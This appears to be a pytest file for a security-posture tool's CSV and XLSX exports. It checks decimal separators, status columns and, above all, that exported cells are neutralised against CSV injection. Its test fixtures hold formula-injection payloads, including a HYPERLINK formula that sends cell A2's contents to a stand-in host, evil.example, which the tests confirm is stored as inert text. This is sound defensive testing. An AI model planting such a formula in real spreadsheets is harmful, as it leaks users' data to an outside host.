"""Spreadsheet exports: OWASP CSV-injection neutralising, the delimiter with matching decimals, one plan
layout for `export --format csv` and `plan --csv`, and the XLSX read back with openpyxl."""

from __future__ import annotations

import csv
import dataclasses
import io
import subprocess
import sys

import openpyxl
import pytest

from posture.assessment import save_assessment
from posture.i18n import tr
from posture.report import export_csv, export_xlsx, load
from posture.report._sheets import STATUSES, neutralise, plan_table, to_csv

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
STARTS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


def _posture(*args: str, lang: str = "es") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "posture", "--lang", lang, *args], capture_output=True,
                          timeout=120)


def _rows(raw: bytes, delimiter: str = ",") -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.fixture(scope="module")
def evil(demo_loaded, tmp_path_factory):
    """The demo with hostile text where a checklist author or a probe check could put it: remediation texts."""
    a = demo_loaded.assessment
    folder = tmp_path_factory.mktemp("evil")
    path = save_assessment(a, folder / "assessment.yaml")
    loaded = load(path)
    items = []
    for n, item in enumerate(loaded.plan.items):
        text = STARTS[n % len(STARTS)] if n < len(STARTS) else EVIL
        items.append(dataclasses.replace(item, action={"es": text, "en": text}))
    return dataclasses.replace(loaded, plan=dataclasses.replace(loaded.plan, items=items))


def test_neutralise_follows_owasp():
    for start in STARTS:
        assert neutralise(start) == "'" + start
    assert neutralise(EVIL) == "'" + EVIL
    for safe in ("Plan", "1+2", " =1", "", "ñandú=", "x-1"):
        assert neutralise(safe) == safe
    assert neutralise(-1.5) == -1.5  # numbers posture computes stay numbers


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_cells_never_start_a_formula(evil, delimiter):
    rows = _rows(export_csv(evil, "es", delimiter), delimiter)
    actions = [r[6] for r in rows[1:]]  # after the id and the title
    assert actions[: len(STARTS)] == ["'" + s for s in STARTS]
    assert all(a == "'" + EVIL for a in actions[len(STARTS):])
    dangerous = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


def test_delimiter_brings_matching_decimals(demo_loaded):
    head, rows = plan_table(demo_loaded.plan, demo_loaded.assessment.frameworks, "es")
    gain_col = next(i for i, h in enumerate(head) if h.startswith("Ganancia"))
    rows = [[*r[:gain_col], 12.5, *r[gain_col + 1:]] for r in rows]
    comma = _rows(to_csv(head, rows, ","), ",")
    semi = _rows(to_csv(head, rows, ";"), ";")
    assert len(comma[0]) == len(semi[0]) == len(head)  # each row splits into its columns
    assert comma[1][gain_col] == "12.5" and semi[1][gain_col] == "12,5"
    assert semi[1][3] == str(demo_loaded.plan.items[0].risk)  # integers have no decimals to change
    assert b";" in to_csv(head, rows, ";").splitlines()[0]


def test_one_plan_layout_for_both_commands(demo_loaded):
    path = str(demo_loaded.assessment.path)
    for lang in ("es", "en"):
        exported = _posture("export", path, "--format", "csv", "--lang", lang, lang=lang)
        planned = _posture("plan", path, "--csv", lang=lang)
        assert exported.returncode == 0 and planned.returncode == 0, planned.stderr
        assert exported.stdout == planned.stdout
    es = _rows(_posture("plan", path, "--csv", "--delimiter", ";", lang="es").stdout, ";")
    assert es[0][:4] == ["Id de acción", "Título", "Prioridad", "Riesgo (1–25)"]
    assert {"Estado", "Comentarios", "Responsable", "Fecha límite"} <= set(es[0])
    status, effort = es[0].index("Estado"), es[0].index("Esfuerzo")
    assert {r[status] for r in es[1:]} == {"Abierta"}
    assert {r[effort] for r in es[1:]} <= {"Bajo", "Medio", "Alto"}
    assert [r[0] for r in es[1:]] == [i.id for i in demo_loaded.plan.items]  # stable action ids
    en = _rows(_posture("plan", path, "--csv", lang="en").stdout)
    assert en[0][0] == "Action id" and {r[en[0].index("Effort")] for r in en[1:]} <= {"Low", "Medium", "High"}


@pytest.mark.parametrize("lang", ["es", "en"])
def test_xlsx_reads_back_with_openpyxl(evil, lang, tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(export_xlsx(evil, lang))
    book = openpyxl.load_workbook(path)
    plan, scores = book.worksheets
    head = [c.value for c in plan[1]]
    assert plan.freeze_panes == "A2" and scores.freeze_panes == "A2"
    assert plan.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(head))}{len(evil.plan.items) + 1}"
    assert plan.max_row == len(evil.plan.items) + 1
    status_col = openpyxl.utils.get_column_letter(head.index(tr({"es": "Estado", "en": "Status"}, lang)) + 1)
    (dv,) = plan.data_validations.dataValidation
    assert dv.type == "list" and f"{status_col}2:{status_col}{plan.max_row}" in str(dv.sqref)
    assert dv.formula1.strip('"').split(",") == [tr(s, lang) for s in STATUSES.values()]
    # hostile text stays text: a string cell, never a formula
    action = plan.cell(row=len(STARTS) + 2, column=head.index(tr({"es": "Acción", "en": "Action"}, lang)) + 1)
    assert action.value == EVIL and action.data_type == "s"
    due = plan.cell(row=2, column=head.index(tr({"es": "Fecha límite", "en": "Due date"}, lang)) + 1)
    assert due.is_date and due.value.date().isoformat() == evil.plan.items[0].due
    risk = plan.cell(row=2, column=4)  # after the id, the title and the priority
    assert risk.value == evil.plan.items[0].risk and risk.data_type == "n"
    rows = list(scores.iter_rows(min_row=2, values_only=True))
    pci = next(r for r in rows if r[1] == "PCI DSS")
    card = evil.scorecard.frameworks["pci-dss-4.0.1"]
    assert pci[2] == round(card.claimed, 1) and pci[5] == round(card.uncapped, 1) and pci[4].startswith("D")
    assert len(rows) == 1 + len(evil.scorecard.frameworks) + len(evil.scorecard.sections)


def test_xlsx_from_the_cli_needs_an_output(demo_loaded, tmp_path):
    path = str(demo_loaded.assessment.path)
    done = _posture("export", path, "--format", "xlsx")
    assert done.returncode == 1 and b"-o" in done.stderr
    done = _posture("export", path, "--format", "xlsx", "-o", str(tmp_path / "p.xlsx"))
    assert done.returncode == 0 and openpyxl.load_workbook(tmp_path / "p.xlsx").sheetnames[0] == "Plan de remediación"


def test_plan_sheet_shows_uncapped_gain_lifts_cap_status_and_overdue(demo_statuses):
    """The demo's capped gains are 0 while another critical failure caps each framework: the sheet also
    gives the uncapped gain and which cap the action lifts, as the CLI and the PDF do; statuses, overdue
    flags (as of the report date) and a risk acceptance's owner and expiry come from the assessment."""
    from synthetic import ACCEPTED, REPORT_DAY
    for lang, words in (("es", ("Ganancia sin límite PCI DSS (pts)", "Levanta el límite", "Vencida", "Sí",
                                "PCI DSS: 1 de 4", "hasta")),
                        ("en", ("Uncapped gain PCI DSS (pts)", "Lifts cap", "Overdue", "Yes", "PCI DSS: 1 of 4",
                                "until"))):
        rows = _rows(export_csv(demo_statuses, lang, today=REPORT_DAY))
        head, body = rows[0], {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
        assert len(set(head)) == len(head)
        uncapped_h, lifts_h, overdue_h, yes, lifts, until = words
        first = body["close-internet-admin-exposure"]
        gain_h = next(h for h in head if h.endswith("PCI DSS (pts)") and h != uncapped_h)
        assert first[gain_h] == "0.0" and first[uncapped_h] == "1.9"
        assert lifts in first[lifts_h] and first[overdue_h] == yes
        status_h = head[11]
        assert body["eliminate-stored-sad"][status_h] == tr(STATUSES["done"], lang)
        assert body["whatsapp-official-api"][status_h] == tr(STATUSES["in-progress"], lang)
        accepted = body["phone-free-floor"]
        assert accepted[status_h] == tr(STATUSES["risk-accepted"], lang) and accepted[overdue_h] != yes
        assert accepted[head[13]] == (f"{ACCEPTED['justification']} ({ACCEPTED['owner']}, {until} "
                                      f"{ACCEPTED['expires']})")
        assert sum(r[overdue_h] == yes for r in body.values()) == 74 - 4
        # nothing overdue on the day of the assessment
        early = _rows(export_csv(demo_statuses, lang, today="2026-03-10"))
        assert {r[early[0].index(overdue_h)] for r in early[1:]} == {tr({"es": "No", "en": "No"}, lang)}


def test_plan_csv_of_both_commands_agrees_on_statuses(demo_statuses):
    path = str(demo_statuses.assessment.path)
    exported = _posture("export", path, "--format", "csv", "--lang", "es", "--on", "2026-11-30")
    planned = _posture("plan", path, "--csv", "--on", "2026-11-30")
    assert exported.returncode == planned.returncode == 0, exported.stderr
    assert exported.stdout == planned.stdout and b"Riesgo aceptado" in planned.stdout


def test_scores_sheet_overall_row_has_uncapped_coverage_and_verdict(demo_loaded, tmp_path):
    path = tmp_path / "s.xlsx"
    path.write_bytes(export_xlsx(demo_loaded, "es", today="2026-11-30"))
    scores = openpyxl.load_workbook(path).worksheets[1]
    head = [c.value for c in scores[1]]
    overall = dict(zip(head, next(scores.iter_rows(min_row=2, max_row=2, values_only=True)), strict=True))
    card = demo_loaded.scorecard
    assert len(set(head)) == len(head)  # one header per column (the level and the grade once shared one)
    assert overall["Ámbito"] == "General"  # one word for "Overall" (tools/i18n_decisions.toml)
    assert overall["Declarado sin límite"] == round(card.overall.uncapped, 1) > overall["Declarado"]
    assert overall["Verificado sin límite"] == round(card.overall.verified_uncapped, 1)
    assert overall["Cobertura (%)"] == round(card.coverage.percent, 1) == 87.8
    assert overall["Calificación"].startswith(card.headline.letter + " · ") and card.headline.letter == "D"
    assert overall["Dictamen"] == "Rechazar" and overall["Próxima revisión"].date().isoformat() == "2027-02-28"


def test_xlsx_plan_carries_statuses_and_numeric_uncapped_gains(demo_statuses, tmp_path):
    from synthetic import REPORT_DAY
    path = tmp_path / "plan.xlsx"
    path.write_bytes(export_xlsx(demo_statuses, "en", today=REPORT_DAY))
    plan = openpyxl.load_workbook(path).worksheets[0]
    head = [c.value for c in plan[1]]
    rows = {r[0].value: {h: c for h, c in zip(head, r, strict=True)} for r in plan.iter_rows(min_row=2)}
    assert rows["eliminate-stored-sad"]["Status"].value == "Done"
    assert rows["phone-free-floor"]["Status"].value == "Risk accepted"
    assert rows["automate-joiner-mover-leaver"]["Status"].value == "Compensating control"
    gain = rows["close-internet-admin-exposure"]["Uncapped gain PCI DSS (pts)"]
    assert gain.data_type == "n" and gain.value == 1.9
    assert rows["close-internet-admin-exposure"]["Lifts cap"].value.startswith("ISO")
    assert sum(r["Overdue"].value == "Yes" for r in rows.values()) == 74 - 4
